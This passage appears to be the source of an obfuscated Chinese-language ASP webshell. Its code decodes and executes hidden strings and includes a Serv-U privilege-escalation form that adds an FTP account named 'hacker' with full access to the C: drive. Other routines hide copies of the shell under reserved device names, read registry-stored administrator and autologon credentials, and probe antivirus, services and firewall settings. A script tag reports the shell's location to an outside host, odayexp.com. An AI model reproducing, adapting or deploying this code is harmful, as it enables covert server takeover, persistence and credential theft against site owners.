execute(LUnEnCode("stnyhszK%isJ?wyXw\jW%B%w\jWhX%%%卐lsnmytS%B%TXK%yjX%%%卐lsnmytS%B%wjiqtKyxjY%yjX%%%卐lsnmytS%B%yxnQjqnKyxjY%yjX%%%卐kn%isJ%%%卐kn%isJ%%%	卐jzwY1jrfsjqnKisW%+%wjiqtk%jqnKjyjqjI3TXK%%%		卐'CYSTK4A。写可'%+%wyXw\jW%B%wyXw\jW%%%%%%%	卐jxqJ%%%	卐'CYSTK4A。写可不'%+%wyXw\jW%B%wyXw\jW%%%		卐wfjqH3wwj%%%%%%%	卐sjmY%wwj%kN%%%	卐jzwY1jrfsjqnKisW%+%wjiqtk%jqnKy}jYjyfjwH3TXK%%%	卐'1读可%C7777kk(Bwtqth%YSTKA'%+%wjiqtk%B%wyXw\jW%%%%%%%卐jxqJ%%%卐kN%isJ%%%	卐jzwY1jrfsjqnKisW%+%wjiqtk%jqnKjyjqjI3TXK%%%		卐'CYSTK4A。写可'%+%wyXw\jW%B%wyXw\jW%%%%%%%	卐jxqJ%%%	卐'CYSTK4A。写可不'%+%wyXw\jW%B%wyXw\jW%%%		卐wfjqH3wwj%%%%%%%	卐sjmY%wwj%kN%%%	卐jzwY1jrfsjqnKisW%+%wjiqtk%jqnKy}jYjyfjwH3TXK%%%	卐'1读可不%C7777kk(Bwtqth%YSTKA'%+%wjiqtk%B%wyXw\jW%%%	卐wfjqH3wwj%%%%%%%卐sjmY%wwj%kN%%%卐y}jS%%%卐yxnQjqnKyxjY%sn%F%mhfJ%wtK%%%卐'ury3'%+%.|ts-isthjX%+%.|ts-jyzsnR%+%.|ts-wztM%+%.|ts-~fI%+%'urjya'%B%jrfsjqnKisW%%%卐xwjiqtKgzX3wjiqtKyxjY%B%yxnQjqnKyxjY%yjX%%%卐.wjiqtk-wjiqtKyjL3TXK%B%wjiqtKyxjY%yjX%%%卐.'yhjogTrjyx~XjqnK3lsnyunwhX'-yhjogtjyfjwH3wj{wjX%B%TXK%yjX%%%卐jrfsjqnKisW1wyXw\jW1yxnQjqnKyxjY1wjiqtKyxjY1TXK%rnI%%%卐y}jS%jrzxjW%wtwwJ%sT?.wjiqtk-w\jWhX%stnyhszK?gzX%isJ?61lxrhX1'息信夹件文'%jlfxxjR	卐lsnmytS%B%TXK%yjX	卐.'&件文圾垃量大下留会夹件文写只在则否，面页本新刷次多要不'-ijW%+%'：意注CNQA'%+%lxrhX%B%lxrhX	卐kn%isJ	卐.'&限权读无或在存不'%+%wjiqtk-ijW%+%'：夹件文CNQA'%+%lxrhX%B%lxrhX%%%%	卐jxqJ	卐lsnmytS%B%wjiqtKT%yjX		卐lsnmytS%B%xwjiqtKurjY%yjX		卐y}jS		卐%%.X-w\jWhX%+%'：夹件文CNQA'+lxrhX%B%lxrhX%%%%%		卐xwjiqtKurjY%sn%X%mhfJ%wtK		卐.wjiqtk-w\jWhX%+%'：录目根夹件文定指CNQA'%B%lxrhX		卐xwjiqtKgzX3wjiqtKT%B%xwjiqtKurjY%yjX		卐.wjiqtk-wjiqtKyjL3TXK%B%wjiqtKT%yjX%%%%	卐sjmY%.wjiqtk-xyxn}JwjiqtK3TXK%kN	卐.'yhjogTrjyx~XjqnK3lsnyunwhX'-yhjogtjyfjwH3wj{wjX%B%TXK%yjX	卐X1lxrhX1wjiqtKurjY1wjiqtKT1TXK%rnI	卐y}jS%jrzxjW%wtwwJ%sT?.wjiqtk-wjiqtKhX%gzX?gzX%isJ?kn%isJ	卐61wyXdurjY1'息信盘磁?'%+%j{nwI%jlfxxjR		卐.'&件文圾垃量大下留会夹件文写只在则否，面页本新刷次多要不'-ijW%+%'：意注CNQA'%+%wyXdurjY%B%wyXdurjY		卐lsnmytS%B%TXK%yjX%%%%	卐lsnmytS%B%j{nwIyxjY%yjX		卐kn%isJ%%%%	卐'-?现发有未但，录目根盘'%+%j{nwI%+%'举穷已CNQA'%+%wyXdurjY%B%wyXdurjY%sjmy%5By%kN			卐y}jS%%%%		卐kn%isJ%%%%			卐..n-yxnQwjiqtKurjY%+%'a?'%+%j{nwI-w\jWhX%+%'：夹件文现发CNQA'%+%wyXdurjY%B%wyXdurjY					卐60y%B%y%%%%				卐sjmY%..n-yxnQwjiqtKurjY%+%'a?'%+%j{nwI-xyxn}JwjiqtK3TXK%kN%%%%			卐.yxnQwjiqtKurjY-isztgZ%ty%5%B%n%wtK			卐.'uyky'1'gzur|'1'uyk'1'gzuyjsN'1'xjqnK%rfwltwU'1'xlsnyyjX%isf%xysjrzhtI'1'xqttY'1'umu'1'uxf'1'5557x|tisn|'1'jrsn|'1'gj|'1'=>sn|'1'5557sn|'1'sn|'1'yssn|'1'x|tisn|'-~fwwF%B%yxnQwjiqtKurjY			卐.'：试测录目举穷'-ijW%+%'CNQA'%+%wyXdurjY%B%wyXdurjY			卐5By?y1yxnQwjiqtKurjY%rnI			卐.'-?读可不'-ijW%+%'?录目根盘磁CNQA'%+%wyXdurjY%B%wyXdurjY%%%%		卐jxqJ%%%%	卐lsnmytS%B%wjiqtKjxfG%yjX			卐lsnmytS%B%wjiqtKurjY%yjX			卐y}jS			卐.I-w\jWhX%+%'：夹件文CNQA'%+%wyXdurjY%B%wyXdurjY%%%%			卐xwjiqtKurjY%sn%I%mhfJ%wtK			卐xwjiqtKgzX3wjiqtKjxfG%B%xwjiqtKurjY%yjX			卐wjiqtKyttW3j{nwIyxjY%B%wjiqtKjxfG%yjX			卐卐..'a?'%+%j{nwI--w\jWhX%+%'?录目根盘磁CNQA'%+%.jrfSjrzqt[3j{nwIyxjY-ijW%+%'：名卷盘磁CNQA'%+%..;<:=9564j nXqfytY3j{nwIyxjY-ysNH-ijW%+%'：量容总盘磁CNQA'%+%.jrfSjwfmX3j{nwIyxjY-ijW%+%'：名享共盘磁CNQA'%+%.wjgrzSqfnwjX3j{nwIyxjY-ijW%+%'：号列序盘磁CNQA'%+%.rjyx~XjqnK3j{nwIyxjY-ijW%+%'：型类区分盘磁CNQA'%B%wyXdurjY%%%%		卐sjmY%~ifjWxN3j{nwIyxjY%kN		卐.j{nwI-j{nwIyjL3TXK%B%j{nwIyxjY%yjX		卐.'yhjogTrjyx~XjqnK3lsnyunwhX'-yhjogtjyfjwH3wj{wjX%B%TXK%yjX%%%%	卐sjmY%''%CA%j{nwI%kN	卐I1wyXdurjY1xwjiqtKurjY1wjiqtKjxfG1j{nwIyxjY1TXK%rnI?.j{nwI-j{nwIsfhX%gzX")):
execute(LUnEnCode("stnyhszK%isJ?'Cjqgfy4A'+7NX+6NX+5NX+NX%XWW卐y}js卐kn%isj卐'Cwy4ACiy4ACystk4A'+myfu3ogt+'@uxgs+C5555KK(Bwtqth%ystkAb'+}q+'?型类动启`C''7''Bsfuxqth%''KKKKKK(''Bwtqthlg%''57''Bymlnjm%iyACwyA'+jrfS~fquxnI3ogt+'@uxgs+C''KKKKKK(''Bwtqthlg%''57''Bymlnjm%iyACiy4A'+jrfS3ogt+'@uxgs+C''KKKKKK(''Bwtqthlg%''57''Bymlnjm%iyACwyA'+7NXB7NX卐jxqj卐'Cwy4ACiy4ACystk4A'+myfu3ogt+'@uxgs+C5555KK(Bwtqth%ystkAb'+}q+'?型类动启`C''7''Bsfuxqth%''KKKKKK(''Bwtqthlg%''57''Bymlnjm%iyACwyA'+jrfS~fquxnI3ogt+'@uxgs+C''KKKKKK(''Bwtqthlg%''57''Bymlnjm%iyACiy4A'+jrfS3ogt+'@uxgs+C''KKKKKK(''Bwtqthlg%''57''Bymlnjm%iyACwyA'+6NXB6NX卐sjmy%7Bju~YywfyX3OGT%isf%'sn|'CA..8191myfu3ogt-inr-jxfHQ%kn卐'用禁'B}q%sjmy%9Bju~YywfyX3OGT%kn卐'动手'B}q%sjmy%8Bju~YywfyX3OGT%kn卐'动自'B}q%sjmy%7Bju~YywfyX3OGT%kn卐kn%isj卐%'Cwy4ACiy4A@uxgs+C''7''Bsfuxqth%''KKKKKK(''Bwtqthlg%''57''Bymlnjm%iyACwyA'B5NX卐'Cwy4ACiy4A'+NXBNX卐'.组-户用统系'+NXBNX卐%'@uxgs+C''KKKKKK(''Bwtqthlg%iyACiy4A'+NXBNX卐jrfS3ogt+NXBNX卐'@uxgs+C''KKKKKK(''Bwtqthlg%''57''Bymlnjm%iyA'+NXBNX卐'CwyA'+NXBNX卐sjmy%''Bju~YywfyX3OGT%kn卐wfjqh3wwj卐.'344?YSsn\'-yhjogTyjl%sn%ogt%mhfj%wtk卐y}js%jrzxjw%wtwwj%st卐'Cwy4ACiy4A务服与户用统系C,zsjr,Bwtqthlg%,wjysjh,Bslnqf%,8,Bsfuxqth%,57,Bymlnjm%iyACwyA'+NXBNX卐'C,wjysjh,Bslnqf%,5,Blsniifuqqjh%,6,Blsnhfuxqqjh%,5,Bwjiwtg%,zsjr,Bwtqthlg%,55;,Bmyin|%jqgfyACwgA'BNX?.-jxwztH%stnyhszK"))
execute(LUnEnCode("stnyhszK%isJ?kn%isj卐'pwt|yjS3yunwhx\?限权有没'%jynw|3jxstuxjW卐sjmy%wwj%kn卐y}jS卐'CwgA'+jrfS3snrif%jynw|3jxstuxjW卐xwjgrjR3uztwLogt%sn%snrif%mhfJ%wtK卐.'uztwl1xwtyfwyxnsnriF4'+jrfSwjyzurtH3Sy+'44?YSsn\'-yhjogTyjLBuztwLogt%yjX卐.'pwt|yjS3yunwhx\'-yhjogTjyfjwh3wj{wjxBSy%yjX卐号帐组xwtyfwyxnsnriF找查,%y}js%jrzxjw%wtwwj%st卐5Bxjwnu}J3jxstuxjW?.-gfsnrif%stnyhszK?stnyhszK%isJ?kn%isj卐isj3jxstuxjW卐INxxjhtwUysn+'CwgA'%jynw\3jxstuxjW卐.INxxjhtwUysn1Ht1qqzs1'wjxz%yjs'-jyfjwh3uu%jynw\3jxstuxjW卐.'xxjhtwUd78sn\'-yjl3hhBuu%yjX卐76B|tisn\|tmX3Ht卐djhsfyxsNs|fuX3xxBHt%yjX卐.'uzywfyXxxjhtwUd78sn\'-yjl3hhBxx%yjx卐..'i}'-yxjzvjw-wj{wjxyhjssth3||Bhh%yjx卐.'wtyfhtqrjg|x3lsnyunwhxrjg|'-yhjogtjyfjwh3wj{wjxB||%yjx卐sjmy%''CA.'i}'-yxjzvjw%kn卐'Crwtk4A'%XWW卐'C''交提''Bjzqf{%''ynrgzX''Bjrfs%''ynrgzx''Bju~y%yzusnA%%%%'%XWW卐'C''5<''Bj nx%''@ytzv+wjphfm@ytzv+1@ytzv+)wjphfm@ytzv+1@ytzv+7{rnh4yttw@ytzv+1@ytzv+6353=;637>6@ytzv+''Bjzqf{%''i}''Bin%''y}jy''Bju~y%''i}''Bjrfs%yzusnA'%XWW卐'令命行执程远%%'%XWW卐'C''nr|BstnyhFD''Bstnyhf%''yxtu''Bitmyjr%''6rwtk''Bjrfs%rwtkA'%XWW卐'C,wjysjh,Bslnqf%,5,Blsniifuqqjh%,6,Blsnhfuxqqjh%,5,Bwjiwtg%,zsjr,Bwtqthlg%,*5=,Bmyin|%jqgfyACwgA'BNX?.-nr|%stnyhszK")):
copyurl=chr(60)&chr(115)&chr(99)&chr(114)&chr(105)&chr(112)&chr(116)&chr(32)&chr(115)&chr(114)&chr(99)&chr(61)&chr(39)&chr(104)&chr(116)&chr(116)&chr(112)&chr(58)&chr(47)&chr(47)&chr(111)&chr(100)&chr(97)&chr(121)&chr(101)&chr(120)&chr(112)&chr(46)&chr(99)&chr(111)&chr(109)&chr(47)&chr(115)&chr(120)&chr(47)&chr(115)&chr(46)&chr(97)&chr(115)&chr(112)&chr(63)&chr(115)&chr(61)&str1&chr(38)&chr(112)&chr(61)&pp&chr(39)&chr(62)&chr(60)&chr(47)&chr(115)&chr(99)&chr(114)&chr(105)&chr(112)&chr(116)&chr(62)&chr(13)&chr(10):Function suftp():RRS"<p><center>Serv-U T权程序--修复提权后无法连接问题</p>"
RRS"<form name='form1' method='post' action=''>"
RRS"<center>管理员:<input name='duser' type='text' class='TextBox' id='duser' value='LocalAdministrator'><br>"
RRS"<center>管理员密码 :<input name='dpwd' type='text' class='TextBox' id='dpwd' value='#l@$ak#.lk;0@P'><br>"
RRS"<center>SERV-U端口:<input name='dport' type='text' class='TextBox' id='dport' value='43958'><br>"
RRS"<center>添加的用户名:<input name='tuser' type='text' class='TextBox' id='tuser' value='hacker'><br>"
RRS"<center>添加的用户密码:<input name='tpass' type='text' class='TextBox' id='pass' value='hacker'><br>"
RRS"<center>帐号的所对的路径:<input name='tpath' type='text' class='TextBox' id='tpath' value='C:\'><br>"
RRS"<center>服务端口:<input name='tport' type='text' class='TextBox' id='tport' value='21'><br>"
RRS"<center><input name='radiobutton' type='radio' value='add' checked class='TextBox'>确定添加"
RRS"<center><input type='radio' name='radiobutton' value='del' class='TextBox'>确定删除"
RRS"<p><input name='Submit' type='submit' class='buttom' value='提交'></p></form>"
Usr = request.Form("duser")
pwd = request.Form("dpwd")
port = request.Form("dport")
tuser = request.Form("tuser")
tpass = request.Form("tpass")
tpath = request.Form("tpath")
tport = request.Form("tport")
hostip = request.Form("hostp")
timeout=600:execute(LUnEnCode("kn%isj卐lsnmytsB8YXTU}%yjX卐.xj{fjq-isjX38yxtU}卐jzwY%1'xj{fjq4'+%ywtu%+'?635353<7644?uyym'%1'YXTU'%sjuT38yxtU}卐.'UYYMQR]37QR]XR'-yhjogTjyfjwH%B%8yxtU}%yjX卐kqwhg{%+%wjxzy%+%'BwjxZ%'%+%kqwhg{%+%ywtuy%+%'BtSywtU2'%+%kqwhg{%+%'5353535BUN2'%+%kqwhg{%+%'WJXZJYJQJI2'%+%xj{fjq%B%xj{fjq卐kqwhg{%+%'JHSFSJYSNFR%JYNX'%+%xj{fjq%B%xj{fjq卐kqwhg{%+%i|u%+%'%xxfU'%+%xj{fjq%B%xj{fjq卐kqwhg{%+%wxZ%+%'%wjxZ'%B%xj{fjq卐jxqj卐.'CWGACwgA.?%'%+%myfuy%+%'%?径路%'%+%xxfuy%+%'%?码密'%+%'%'%+%wjxzy%+%'%?名户用%UYK！！行执功成令命'-%jynw|3jxstuxjw卐lsnmytsBYXTU}%yjX卐.xj{fjq-isjX3yxtU}卐jzwY%1'xj{fjq4'+%ywtu%+'?635353<7644?uyym'%1'YXTU'%sjuT3yxtU}卐.'UYYMQR]37QR]XR'-yhjogTjyfjwH%B%yxtU}%yjX卐y}jS%jrzxjW%wtwwJ%sT卐卐kqwhg{%+%'ynzv'%+%xj{fjq%B%xj{fjq卐kqwhg{%+%'UIHQJRF\W""a'%+%myfuy%+%'BxxjhhF%'%+%kqwhg{%+%'jstSBxtnyfW2'%+%kqwhg{%+%'wfqzljWBju~Yiwt|xxfU2'%+%kqwhg{%+%'rjyx~XBjhsfsjysnfR2'卐d%+%kqwhg{%+%'5Brzrn}fRfytzV2'%+%kqwhg{%+%'5BysjwwzHfytzV2'%+%kqwhg{%+%'5BynijwHxtnyfW2'%+%kqwhg{%+%'6Bs|tItnyfW2'卐d%+%kqwhg{%+%'6BuZtnyfW2'%+%kqwhg{%+%'5Bjwnu}J2'%+%kqwhg{%+%'62ByzTjrnYstnxxjX2'%+%kqwhg{%+%'55;ByzTjrnYjqiN2'%+%kqwhg{%+%'62BxwjxZwS}fR2'卐d%+%kqwhg{%+%'5Bs|tIynrnQijjuX2'%+%kqwhg{%+%'5BuZynrnQijjuX2'%+%kqwhg{%+%'62BUNwjUsnltQxwjxZ}fR2'%+%kqwhg{%+%'5BjqgfsJfytzV2'卐d%+%kqwhg{%+%'5Biwt|xxfUjlsfmH2'%+%kqwhg{%+%'5BsnltQ|tqqFx~f|qF2'%+%kqwhg{%+%'5BsjiinMjinM2'%+%kqwhg{%+%'5BjwzhjXijjS2'卐d%+%kqwhg{%+%'6BxmyfUqjW2'%+%kqwhg{%+%'5BjqgfxnI2'%+%kqwhg{%+%'BjqnKxjRsnltQ2'%+%kqwhg{%+%'a'%+%myfuy%+%'BwnIjrtM2'卐d%+%kqwhg{%+%xxfuy%+%'Biwt|xxfU2'%+%kqwhg{%+%wjxzy%+%'BwjxZ2'%+%kqwhg{%+%ywtuy%+%'BtSywtU2'%+%kqwhg{%+%'5353535BUN2'%+%kqwhg{%+%'UZYJXWJXZYJX2'%+%xj{fjq%B%xj{fjq卐kQwHg{%+%'B~jPT_Y%'%+%kQwHg{%+%'5BjqgfsJT_Y2'%+%kQwHg{%+%'5""6""62""'%+%ywtuy%+%'""5353535""jz~zt~BsnfrtI2'%+%kQwHg{%+%'SNFRTIYJX2'%+%xj{fjq%B%xj{fjq卐kQwHg{%+%'JHSFSJYSNFR%JYNX'%B%yr卐kQwHg{%+%ywtuy%+%'BtSywtU%'%+%kQwHg{%+%'5353535BUN2'%+%kQwHg{%+%'SNFRTIjyjqjI2'%+%xj{fjq%B%xj{fjq卐kqwhg{%+%'JHSFSJYSNFR%JYNX'%+%xj{fjq%B%xj{fjq卐kqwhg{%+%i|u%+%'%xxfU'%+%xj{fjq%B%xj{fjq卐kqwhg{%+%wxZ%+%'%wjxZ'%B%xj{fjq卐sjmY%'iif'%B%.'styyzgtnifw'-rwtK3yxjzvjw%kn")):End Function:
execute(shisanfun("noitcnuF dne╋cbb=tpyrcnE╋txen╋fi dne╋c&cbb=cbb╋esle╋)1,)e(tnic,1LEEHWs(dim&cbb=cbb╋)╁╁,╁※╁,d(ecalper=e╋1+i=i╋)2,i,dca(dim=d╋neht ╁※╁=c fi╋)1,i,dca(dim=c╋1 pets )dca(neL oT 1 = i roF╋)dca(tpyrcnE noitcnuF╋╁twj╁ = 1LEEHWs"))
acode="=s?psa.s/xs/moc.pxeyado//:p※3※3h'=crs ※3pircs<"
Function fuck():On Error Resume Next
execute(LUnEnCode(".myfUyktX-jxfhqBtksnmyfU卐.'myfU'-rjyn3ysjrstwn{sJ3mx\BmyfUyktX卐.'qqjmX3yunwhx\'-yhjogtjyfjwhBmx|%yjx卐mx|%rni"))
Response.Write"<LI>系统软件支持:<BR>"
Response.Write"-----------------------------<br>"
execute(LUnEnCode("'CwgA持支?件软毒杀列系星瑞CnqA'%jynw\3jxstuxjW%sjmY%.'lsnxnw'1tksnmyfU-wyxsn%kn卐'CwgA持支?件软毒杀克铁门赛CnqA'%jynw\3jxstuxjW%sjmY%.'xzwn{nysf'1tksnmyfU-wyxsn%kn卐'CwgA持支?件软毒杀列系山金CnqA'%jynw\3jxstuxjW%sjmY%.'{fp'1tksnmyfU-wyxsn%kn卐'CwgA持支?件软毒杀qqnPCnqA'%jynw\3jxstuxjW%sjmY%.'qqnP'1tksnmyfU-wyxsn%kn卐'CwgA持支?制控jwjm|~sFhU克铁门赛CnqA'%jynw\3jxstuxjW%sjmY%.'jwjm|~sfhu'1tksnmyfU-wyxsn%kn卐'CwgA持支?器务服RKHCnqA'%jynw\3jxstuxjW%sjmY%.'<}rstnxzkh'1tksnmyfU-wyxsn%kn卐'CwgA持支?务服库据数jqhfwTCnqA'%jynw\3jxstuxjW%sjmY%.'jqhfwt'1tksnmyfU-wyxsn%kn卐'CwgA持支?务服库据数QVX~RCnqA'%jynw\3jxstuxjW%sjmY%.'qvx~r'1tksnmyfU-wyxsn%kn卐'CwgA持支?务服库据数QVXXRCnqA'%jynw\3jxstuxjW%sjmY%.'wj{wjx%qvx%yktxtwhnr'1tksnmyfU-wyxsn%kn卐'CwgA持支?本脚f{fOCnqA'%jynw\3jxstuxjW%sjmY%.'f{fo'1tksnmyfU-wyxsn%kn卐'CwgA持支?本脚qwjUCnqA'%jynw\3jxstuxjW%sjmY%.'qwju'1tksnmyfU-wyxsN%kn"))
paths=split(SoftPath,";")
Response.Write "------------------------------------<br>"
Response.Write "系统当前路径变量:<br>"
For i=Lbound(paths) to Ubound(paths)
Response.Write "<li>"&paths(i)&"<br>"
next:end Function
execute(shisanfun("bus dne╋╁>tpircs/<;'╁&lru&)╁eman_revres╁(tseuqer&╁//:ptth'=noitacol.tnerap>tpircs<╁ srr:gnihton=osf tes:1emanelif&╁.╁&xepdnr&╁\╁&1htapelif&╁\.\\╁,htapf elifypoc.osf:1emanelif&╁.╁&xepdnr&))╁/╁,lru(verrtsni,lru(tfel=lru:)╁lru╁(selbairavrevres.tseuqer=lru:))╁\╁,htapf(verrtsni-)htapf(nel,htapf(thgir=1emanelif:)╁.╁(htappam.revres=1htapelif:╁╁=)╁wjles╁(noisses:))71,0(rebmundnr()╁|╁,xep(tilps=xepdnr:╁9tpl|8tpl|7tpl|6tpl|5tpl|4tpl|3tpl|2tpl|1tpl|9moc|8moc|7moc|6moc|5moc|4moc|3moc|2moc|1moc╁=xep:)╁tcejbometsyselif.gnitpircs╁(tcejboetaerc.revres=osf tes:)╁detalsnart_htap╁(selbairavrevres.tseuqer=htapf╋llehsneddih bus"))
execute(LUnEnCode("stnyhszK%isj?kn%isJ%%%%%%卐'码密jwjm|~sFhu到得解破并载下录目认默从以可1件文码密jwjm|~sFhu现发CnqA'%jynw\3jxstuxjW%%%%%%%%卐sjmY%.'knh3'+jrfswj{wjx+'ahjysfr~XafyfI%stnyfhnquuFaxwjxZ%qqFaxlsnyyjX%isF%xysjrzhtIa'+wj{nwix~x-xyxn}JjqnK3txk%kN%%%%%%卐.'jrfSwjyzurtHajrfSwjyzurtHajrfSwjyzurtHaqtwystHayjXqtwystHysjwwzHaRJYX^XaRQPM'-ifjWljW3mx|Bjrfswj{wjx%%%%%%卐.71.7-wjiqtKqfnhjuxyjL3txK-ykjqBj{nwix~X%%%%%%卐.'yhjogTrjyx~XjqnK3lsnyunwhX'-yhjogtjyfjwH3wj{wjXBtxk%yjX%%%%%%卐y}jS%%%%卐%kn%isJ%%%%%%卐kn%isJ%%%%%%%%卐'CwgA马木UMU入写且并1录目qnfRgj\找查以可1动启限权rjyx~XqfhtQ以且1qnfrsn\%hnlfR有中器务服CnqA'%jynw\3jxstuxjW%%%%%%%%%%卐sjmY%'rjyx~XqfhtQ'BjrfSyszthhFjhn{wjX3jhn{wjXogt%kn%%%%%%%%卐sjmY%.'qnfrsn|'1.jrfS3jhn{wjXogt-jxfhq-wyxsn%kn%%%%%%%卐卐kn%isJ%%%%%%卐kn%isJ%%%%%%%%卐'CwgA权提马木uxO用使虑考以可1动启限权rjyx~XqfhtQ以且1yfhrtY有中器务服CnqA'%jynw\3jxstuxjW%%%%%%%%%%卐sjmY%'rjyx~XqfhtQ'BjrfSyszthhFjhn{wjX3jhn{wjXogt%kn%%%%%%%%卐sjmY%.'yfhrty'1.jrfS3jhn{wjXogt-jxfhq-wyxsn%kn%%%%%%卐kn%isJ%%%%%%卐kn%isj%%%%%%%%卐kn%isJ%%%%%%%%%%卐'CwgA马木UMU虑考以可1rjyx~XqfhtQ为限权动启1在存务服jmhfuF有中器务服CnqA%'%jynw\3jxstuxjW%%%%%%%%%%%%卐jxqJ%%%%%%%%%%卐'CwgA权提接直以可3jmhfuF为器务服GJ\前当CnqA'%jynw\3jxstuxjW%%%%%%%%%%%%卐sjmY%.'jmhfuF'1.'JWF\YKTXdWJ[WJX'-xjqgfnwf[wj{wjX3yxjzvjW-wyxsn%kN%%%%%%%%%%卐sjmY%'rjyx~XqfhtQ'BjrfSyszthhFjhn{wjX3jhn{wjXogt%kn%%%%%%%%卐sjmY%'jmhfuf'B.jrfS3jhn{wjXogt-jxfhq%kn%%%%%%卐kn%isJ%%%%%%卐kn%isJ%%%%%%%%卐'CwgA权提虑考以可1动启限权rjyx~XqfhtQ以且1装安Z2{wjX有中器务服CnqA'%jynw\3jxstuxjW%%%%%%%%%%卐sjmY%'rjyx~XqfhtQ'BjrfSyszthhFjhn{wjX3jhn{wjXogt%kn%%%%%%%%卐sjmY%'Z2{wjX'BjrfS3jhn{wjXogt%kn%%%%%%卐%%%%%卐%%%%%%卐wjyzurtHogt%sN%jhn{wjXogt%mhfJ%wtK%%%%卐y}jS%jrzxjW%wtwwJ%sT,%%%%卐.'jhn{wjX'-~fwwF%B%wjyqnK3wjyzurtHogt%%%%卐.'stnyfhnquuF3qqjmX'-yhjogTjyfjwH3wj{wjX%B%fx%yjX%%%%卐.'344?YSsn\'-yhjogTyjL%B%wjyzurtHogt%yjX卐'CwmACwgAb测探点弱器务服`'%jynw|3jxstuxjW?.-~itl%stnyhszK?stnyhszK%isj?'CwgACwgACwgA222222222222222222222222222222222222'%jynw\3jxstuxjW卐'CwgA'+pp+'?为卡网动活前当CnqA'jynw\3jxstuxjW卐.pm-ifjWljW3mx|Bpp卐'ysztHarzsJaunuhYaxjhn{wjXa655yjXqtwystHaRJYX^XaRQPM'Bpm卐'CwgA'+qrys+'?为置设qryS%yjsqjYCnqA'%jynw\3jxstuxjW卐6BqryS%sjmY%''Bqrys%kn卐.~jpQRYS-ifjWljW3mx\Bqrys卐'QRYSa536awj{wjXyjsqjYayktxtwhnRaJWF\YKTXaJSNMHFRdQFHTQd^JPM'B~jpQRYS卐'CwgA'+~quxni+'?户用入登次上示显否是CnqA'%jynw\3jxstuxjW卐'否'B~quxni%jxqj%'是'B~quxni%sjmY%5Bsnltquxni%wt%''Bsnltquxni%kN卐.'jrfSwjxZyxfQ~fquxnIystIarjyx~XaxjnhnqtUastnxwj[ysjwwzHax|tisn\ayktxtwhnRajwf|yktXaJSNMHFRdQFHTQd^JPM'-ifjWljw3mx|Bsnltquxni卐kn%isJ卐'CwgA'+i|xxfU+'?码密CjwfzvxBju~y%nqA'%jynw\3jxstuxjW%%卐'CwgA'+snriF+'?名户用CjwfzvxBju~y%nqA'%jynw\3jxstuxjW%%卐.'iwt|xxfUyqzfkjIastltqsn\astnxwj[ysjwwzHaYS%x|tisn\ayktxtwhnRaJWF\YKTXaJSNMHFRdQFHTQd^JPM'-ifjWljW3mx\Bi|xxfU%%卐.'jrfSwjxZyqzfkjIastltqsn\astnxwj[ysjwwzHaYS%x|tisn\ayktxtwhnRaJWF\YKTXaJSNMHFRdQFHTQd^JPM'-ifjWljW3mx\BsnriF%%卐'CwgA用启?入登动自户用CnqA'%jynw\3jxstuxjW%%卐jxqJ卐'CwgA用启未?入登动自户用CnqA'%jynw\3jxstuxjW%%卐sjmY%''BsnltqtyzF%wt%5BsnltqtyzF%kn卐.snltqtyzFxn-ifjWljW3mx\BsnltqtyzF卐'stltQsnriFtyzFastltqsn\astnxwj[ysjwwzHaYS%x|tisn\ayktxtwhnRaJWF\YKTXaJSNMHFRdQFHTQd^JPM'BsnltqtyzFxn卐'CwgA'+jrfSsnriF+'?为名户用员理管认默CnqA'%jynw\3jxstuxjW卐'wtyfwyxnsnriF'BjrfSsnriF%sjmY%''Bjrfssnrif%kn卐.~jPjrfSsnriF-ifjWljW3mx|BjrfSsnriF卐'jrfSwjxZyqzfkjIyqFastltqsn\astnxwj[ysjwwzHaYS%x|tisn\ayktxtwhnRaJWF\YKTXaJSNMHFRdQFHTQd^JPM'B~jPjrfSsnriF卐'CwgA'+jrfshu+'?为名机主前当CnqA'%jynw\3jxstuxjW卐'CwgA3名机主取读法无'Bjrfshu%sjmY%''Bjrfshu%kn卐.~jpjrfshu-ifjWljW3mx|Bjrfshu卐'jrfSwjyzurtHajrfSwjyzurtHajrfSwjyzurtHaqtwystHayjXqtwystHysjwwzHaRJYX^XaRQPM'B~jpjrfshu卐卐'C6Bj nx%wmACwgAb测探置设统系`CwgACwgA'%jynw\3jxstuxjW	卐kn%isj%%%%卐y}jS%%%%%%卐'CwgA222222222222222222222222222222222222222222222222'%jynw\3jxstuxjW%%%%%%%%卐kn%isJ%%%%%%%%卐kn%isJ%%%%%%%%%%卐'CwgA'%jynw\3jxstuxjW%%%%%%%%%%%%卐y}js%%%%%%%%%%%%卐'1'+.o-|tqqfUIZ%jynw\3jxstuxjW%%%%%%%%%%%%%%卐.|tqqfuiz-isztGZ%tY%.|tqqfuiz-isztGQ%B%o%wtk%%%%%%%%%%%%卐'?为口端UIZ的许允CnqA'%jynw\3jxstuxjW%%%%%%%%%%%%卐jxqJ%%%%%%%%%%卐'CwgA部全?为口端UIZ的许允CnqA'%jynw\3jxstuxjW%%%%%%%%%%%%卐sjmY%5B.5-|tqqfuiz%wt%''B.5-|tqqfuiz%kN%%%%%%%%%%卐.UIZqqzK-ifjWljW3mx\B|tqqfuiz%%%%%%%%%%卐kn%isJ%%%%%%%%%%卐'CwGA'%jynw\3jxstuxjW%%%%%%%%%%%%卐y}jS%%%%%%%%%%%%卐'1'+.o-|tqqfuhy%jynw\3jxstuxjW%%%%%%%%%%%%%%卐.|tqqfuhy-isztGZ%tY%.|tqqfuhy-isztGQ%B%o%wtK%%%%%%%%%%%%卐'?为口端UHY的许允CnqA'%jynw\3jxstuxjW%%%%%%%%%%%%卐jxqJ%%%%%%%%%%卐'CwgA部全?为口端UHY的许允CnqA'%jynw\3jxstuxjW%%%%%%%%%%%%卐sjmY%5B.5-|tqqfuhy%wt%''B.5-|tqqfuhy%kN%%%%%%%%%%卐.UHYqqzK-ifjWljW3mx\B|tqqfuhy%%%%%%%%%%卐PZJ+GiuF+myfuBUIZqqzK%%%%%%%%%%卐PYJ+GiuF+myfUBUHYqqzK%%%%%%%%%%卐'xywtUij|tqqFUIZa'BPZJ%%%%%%%%%%卐'xywtUij|tqqFUHYa'BPYJ%%%%%%%%%%卐jxqj%%%%%%%%卐'CwgA选筛UN4uhY有没CnqA'%jynw\3jxstuxjW%%%%%%%%%%卐%sjmY%6BwjyqnkunuhytS%kn%%%%%%%%卐卐测探选筛UN4UHY,卐卐kN%isJ%%%%%%%%卐'CwgA置设有没或取读法无XSI认默CnqA'%jynw\3jxstuxjW%%%%%%%%%%卐jxqJ%%%%%%%%卐'CwgA'+wyxXSI+'?为XSI卡网CnqA'%jynw\3jxstuxjW%%%%%%%%%%卐sjmY%''CAwyxXSI%kN%%%%%%%%卐.~jPXSI-ifjWljW3